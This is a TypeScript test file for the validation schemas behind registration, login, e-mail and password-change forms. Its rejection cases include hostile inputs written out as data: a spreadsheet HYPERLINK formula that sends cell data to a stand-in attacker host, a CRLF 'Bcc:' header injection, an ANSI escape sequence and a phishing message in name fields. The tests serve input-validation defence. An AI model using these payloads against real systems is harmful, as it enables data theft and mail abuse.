import { describe, expect, it } from "vitest";
import { accountEmailSchema, emailSchema, errorKeys, loginSchema, newPasswordSchema, registerSchema } from "./account-forms";

const good = { email: "ana.novak@example.com", password: "Zelena-jabolka-7", firstName: "Ana", lastName: "Novak" };

function problems(result: { success: boolean; error?: Parameters<typeof errorKeys>[0] }) {
  return result.success ? [] : errorKeys(result.error!);
}

describe("registerSchema (argon2id, 8..128 characters, no common passwords)", () => {
  it("accepts a complete registration, newsletter off unless ticked", () => {
    const result = registerSchema.safeParse(good);
    expect(result.success && result.data.newsletter).toBe(false);
    expect(registerSchema.safeParse({ ...good, newsletter: "on" }).data?.newsletter).toBe(true);
  });

  it.each([
    [{ email: "not-an-address" }, "emailInvalid"],
    [{ email: "a@b" }, "emailInvalid"],
    [{ password: "short1" }, "passwordTooShort"],
    [{ password: "x".repeat(129) }, "passwordTooLong"],
    [{ password: "password123" }, "passwordCommon"],
    [{ firstName: "  " }, "firstNameRequired"],
    [{ lastName: "" }, "lastNameRequired"],
    [{ firstName: "A".repeat(101) }, "nameTooLong"],
    [{ email: ["x@y.si"] }, "emailInvalid"],
    // DESIGN.md: names take name characters only; an address is a dot-atom mailbox (RFC 5321)
    [{ firstName: "your account is locked, unlock it at https://lumera-help.example" }, "firstNameInvalid"],
    [{ firstName: "Ana\u001b[2J" }, "firstNameInvalid"],
    [{ lastName: "Novak\r\nBcc: x@example.com" }, "lastNameInvalid"],
    [{ email: '=HYPERLINK("http://evil.example/?"&B2,"Refund")&"@x.com"' }, "emailInvalid"],
    [{ email: "ana..novak@example.com" }, "emailInvalid"],
  ])("refuses %o with %s", (change, key) => {
    expect(problems(registerSchema.safeParse({ ...good, ...change }))).toContain(key);
  });

  it("lists every problem of the form at once", () => {
    expect(problems(registerSchema.safeParse({ email: "x", password: "1", firstName: "", lastName: "" }))).toEqual([
      "emailInvalid",
      "firstNameRequired",
      "lastNameRequired",
      "passwordTooShort",
    ]);
  });
});

describe("e-mail addresses", () => {
  it("an address to store and mail to is a dot-atom mailbox; finding an account needs only the old shape, so older accounts still sign in", () => {
    expect(emailSchema.safeParse(" ana.novak@example.com ").data).toBe("ana.novak@example.com");
    expect(emailSchema.safeParse('"ana"@example.com').success).toBe(false);
    expect(accountEmailSchema.safeParse('"ana"@example.com').success).toBe(true);
    expect(accountEmailSchema.safeParse("ana novak@example.com").success).toBe(false);
    expect(loginSchema.safeParse({ email: "ana..novak@example.com", password: "x" }).success).toBe(true);
  });

  it("takes the names people have", () => {
    expect(registerSchema.safeParse({ ...good, firstName: "Ana-Marija", lastName: "O'Brien" }).success).toBe(true);
    expect(registerSchema.safeParse({ ...good, firstName: "Kovács Éva", lastName: "Nguyễn" }).success).toBe(true);
  });
});

describe("loginSchema", () => {
  it("needs an address and a password of at most 128 characters", () => {
    expect(loginSchema.safeParse({ email: good.email, password: "anything" }).success).toBe(true);
    expect(problems(loginSchema.safeParse({ email: good.email, password: "" }))).toEqual(["invalidCredentials"]);
    expect(problems(loginSchema.safeParse({ email: good.email, password: "x".repeat(129) }))).toEqual(["invalidCredentials"]);
  });
});

describe("newPasswordSchema", () => {
  it("wants the same strong password twice", () => {
    expect(newPasswordSchema.safeParse({ password: good.password, confirmPassword: good.password }).success).toBe(true);
    expect(problems(newPasswordSchema.safeParse({ password: good.password, confirmPassword: "other" }))).toEqual(["passwordMismatch"]);
    expect(problems(newPasswordSchema.safeParse({ password: "12345678", confirmPassword: "12345678" }))).toEqual(["passwordCommon"]);
  });
});
